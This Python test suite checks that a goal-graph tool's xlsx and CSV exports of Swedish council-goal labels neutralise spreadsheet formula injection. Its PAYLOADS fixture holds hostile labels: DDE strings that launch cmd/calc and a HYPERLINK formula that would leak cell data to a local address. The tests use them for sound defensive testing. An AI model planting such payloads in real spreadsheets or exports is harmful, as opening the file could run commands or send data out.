"""Spreadsheet exports are not formula injection vectors: a label that a spreadsheet would
run as a formula comes out of the xlsx and CSV exports as text, and reading the export back
gives the label exactly. Exported through the API and the CLI, as a user would."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from rdflib import Graph, Literal, URIRef

from api.launch import ROOT, ServerStartError, running_server
from tests.security.homes import ID, SKOS_PREF, home_with_labels

TOKEN = "export-suite-token"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: Labels of Nora's council goals 1-9 that a spreadsheet would read as formulas (or nearly).
PAYLOADS = {
    "goal-kf1": '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klicka här")',
    "goal-kf2": "+1+cmd|' /C calc'!A0",
    "goal-kf3": "-2+3+cmd|' /C calc'!A0",
    "goal-kf4": "@SUM(1+9)*cmd|' /C calc'!A0",
    "goal-kf7": "'=2+2 redan citerad",
    "goal-kf8": "''-3 två apostrofer",
    "goal-kf9": "-5",
}
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
#: Labels with a leading tab or carriage return (Vaggeryd's council goals 1 and 2): the template
#: keeps no leading white space, so the export refuses them, naming the goal, and writes nothing.
WHITESPACE = {"goal-kf1": "\t=1+1 efter en tabb", "goal-kf2": "\r=1+1 efter en vagnretur"}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    labels = {
        "nora": {(local, "sv"): text for local, text in PAYLOADS.items()},
        "vaggeryd": {(local, "sv"): text for local, text in WHITESPACE.items()},
    }
    return home_with_labels(tmp_path_factory.mktemp("exports"), labels)


@pytest.fixture(scope="module")
def server(home: Path) -> Iterator[str]:
    try:
        with running_server({"GOALGRAPH_HOME": str(home), "GOALGRAPH_WRITE_TOKEN": TOKEN}) as base:
            yield base
    except ServerStartError as exc:
        pytest.fail(str(exc))


def _cli(home: Path, *args: str, code: int = 0) -> subprocess.CompletedProcess[str]:
    """Run ``goalgraph`` on ``home``; its output is decoded as it is (a CR stays a CR)."""
    env = {**os.environ, "GOALGRAPH_HOME": str(home)}
    done = subprocess.run(
        [sys.executable, "-m", "goalgraph", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        timeout=300,
        check=False,
    )
    out, err = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    assert done.returncode == code, err
    return subprocess.CompletedProcess(done.args, done.returncode, out, err)


def _labels(graph: Graph) -> dict[str, str]:
    """The Swedish preferred labels of the payload goals in ``graph``."""
    found = {}
    for local in PAYLOADS:
        values = [
            str(o)
            for o in graph.objects(URIRef(f"{ID}nora/{local}"), SKOS_PREF)
            if isinstance(o, Literal) and o.language == "sv"
        ]
        assert len(values) == 1, (local, values)
        found[local] = values[0]
    return found


def _assert_no_formula(data: bytes) -> None:
    """No cell of the workbook is a formula, and every payload is a quote-prefixed text cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in PAYLOADS.values():
                    seen.add(cell.value)
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    if str(cell.value).startswith(DANGEROUS):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert seen == set(PAYLOADS.values())


def test_the_api_sheet_is_text_and_reads_back_to_the_same_labels(server: str) -> None:
    response = httpx.get(f"{server}/graph/nora/sheet", params={"form": "xlsx"}, timeout=60)
    assert response.status_code == 200, response.text
    _assert_no_formula(response.content)
    # the sheet sent back unchanged stores the same labels
    put = httpx.put(
        f"{server}/graph/nora/sheet",
        content=response.content,
        headers={"Content-Type": XLSX, "Authorization": f"Bearer {TOKEN}"},
        timeout=120,
    )
    assert put.status_code in (200, 201, 204), put.text
    turtle = httpx.get(f"{server}/graph/nora", headers={"Accept": "text/turtle"}, timeout=60)
    assert turtle.status_code == 200
    assert _labels(Graph().parse(data=turtle.text, format="turtle")) == PAYLOADS


def test_the_cli_workbook_is_text_and_imports_to_the_same_labels(
    home: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "nora.xlsx"
    _cli(home, "export-sheet", "nora", "-o", str(sheet))
    _assert_no_formula(sheet.read_bytes())
    turtle = tmp_path / "nora.ttl"
    _cli(home, "import", str(sheet), "-o", str(turtle))
    assert _labels(Graph().parse(turtle, format="turtle")) == PAYLOADS


def test_the_cli_csv_folder_protects_formulas_and_imports_to_the_same_labels(
    home: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "nora-csv"
    _cli(home, "export-sheet", "nora", "-o", str(folder), "--form", "csv")
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells.extend(c for row in csv.reader(handle) for c in row)
    # only plain numbers (such as -5) may begin with a formula character
    assert [c for c in cells if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)] == []
    for text in PAYLOADS.values():
        expected = text if text == "-5" else "'" + text
        assert expected in cells, text
    turtle = tmp_path / "nora.ttl"
    _cli(home, "import", str(folder), "-o", str(turtle))
    assert _labels(Graph().parse(turtle, format="turtle")) == PAYLOADS


def test_named_query_csv_protects_formulas(home: Path) -> None:
    done = _cli(
        home, "query", "goals-of-municipality", "-p", "municipality=id:nora", "--format", "csv"
    )
    cells = [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
    assert "'" + PAYLOADS["goal-kf1"] in cells
    assert "'" + PAYLOADS["goal-kf4"] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_a_label_with_leading_white_space_is_refused_by_every_export(
    server: str, home: Path, tmp_path: Path
) -> None:
    for form in ("xlsx", "yaml"):
        response = httpx.get(f"{server}/graph/vaggeryd/sheet", params={"form": form}, timeout=60)
        assert response.status_code == 422, response.text
        assert f"{ID}vaggeryd/goal-kf1" in response.text
    for target in ("vaggeryd.xlsx", "vaggeryd-csv"):
        done = _cli(home, "export-sheet", "vaggeryd", "-o", str(tmp_path / target), code=2)
        assert f"{ID}vaggeryd/goal-kf2" in done.stderr
        assert not (tmp_path / target).exists()


def test_named_query_csv_protects_tab_and_carriage_return(home: Path) -> None:
    done = _cli(
        home, "query", "goals-of-municipality", "-p", "municipality=id:vaggeryd", "--format", "csv"
    )
    cells = [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
    assert {"'" + text for text in WHITESPACE.values()} <= set(cells)
